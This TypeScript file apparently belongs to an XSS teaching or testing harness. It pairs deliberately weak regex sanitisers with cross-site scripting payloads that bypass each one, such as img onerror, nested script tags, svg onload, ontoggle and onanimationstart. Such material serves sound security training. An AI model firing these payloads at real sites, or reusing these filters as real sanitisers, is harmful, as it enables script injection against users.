import { at, inText, keep, type Technique } from './technique.ts'

/** Against texts that are filtered instead of escaped. */
export const filterTechniques: Technique[] = [
  {
    name: 'script element',
    weakness: 'texts are not escaped',
    payload: ({ call }) => `<script>${call}</script>`,
    ...at(inText, keep),
  },
  {
    name: 'event handler',
    weakness: 'the filter removes script elements only',
    payload: ({ call }) => `<img src=x onerror=${call}>`,
    ...at(inText, (text) => text.replace(/<script\b.*?<\/script>/gis, '')),
  },
  {
    name: 'nested tags',
    weakness: 'the filter removes tags once and does not look at the rest',
    payload: ({ call }) => `<scr<script>ipt>${call}</scr</script>ipt>`,
    ...at(inText, (text) => text.replace(/<\/?script>/gi, '')),
  },
  {
    name: 'unclosed tag',
    weakness: 'the filter removes complete tags only',
    payload: ({ call }) => `<img src=x onerror=${call}//`,
    ...at(inText, (text) => text.replace(/<[^>]*>/g, '')),
  },
  {
    name: 'SVG element',
    weakness: 'the list of forbidden elements is that of HTML',
    payload: ({ call }) => `<svg onload=${call}>`,
    ...at(inText, (text) => text.replace(/<\/?(script|img|iframe|object|embed|video|audio|body|input)\b[^>]*>/gi, '')),
  },
  {
    name: 'slash as separator',
    weakness: 'the filter expects white space before a handler',
    payload: ({ call }) => `<svg/onload=${call}>`,
    ...at(inText, (text) => text.replace(/\s+on\w+\s*=\s*[^\s>]+/gi, '')),
  },
  {
    name: 'toggle handler',
    weakness: 'the list of forbidden handlers has only the common ones',
    payload: ({ call }) => `<details open ontoggle=${call}>`,
    ...at(inText, (text) => text.replace(/\bon(error|load|click|focus|blur|mouse\w+|key\w+|pointer\w+)\s*=/gi, 'x=')),
  },
  {
    name: 'animation handler',
    weakness: 'style elements and attributes are allowed',
    payload: ({ call }) => `<style>@keyframes a{}</style><b style=animation:a onanimationstart=${call}>`,
    ...at(inText, (text) => text.replace(/\bon(error|load|toggle|click|focus|blur|mouse\w+|key\w+)\s*=/gi, 'x=')),
  },
]
